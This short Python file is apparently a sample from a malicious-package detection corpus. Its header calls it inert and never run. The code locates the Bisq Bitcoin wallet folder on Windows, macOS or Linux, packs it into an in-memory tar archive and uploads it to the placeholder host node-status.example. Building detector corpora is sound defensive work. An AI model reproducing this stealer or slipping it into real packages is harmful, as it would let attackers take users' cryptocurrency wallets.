# pkgguard corpus 832 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import sys
import tarfile

import requests

if sys.platform == "win32":
    root = os.path.join(os.environ.get("APPDATA", ""), "Bisq")
elif sys.platform == "darwin":
    root = os.path.expanduser("~/Library/Application Support/Bisq")
else:
    root = os.path.expanduser("~/.local/share/Bisq")
wallet = os.path.join(root, "btc_mainnet", "wallet")
if os.path.isdir(wallet):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.add(wallet, arcname="wallet")
    requests.put("https://node-status.example/b", data=buffer.getvalue(), timeout=60)
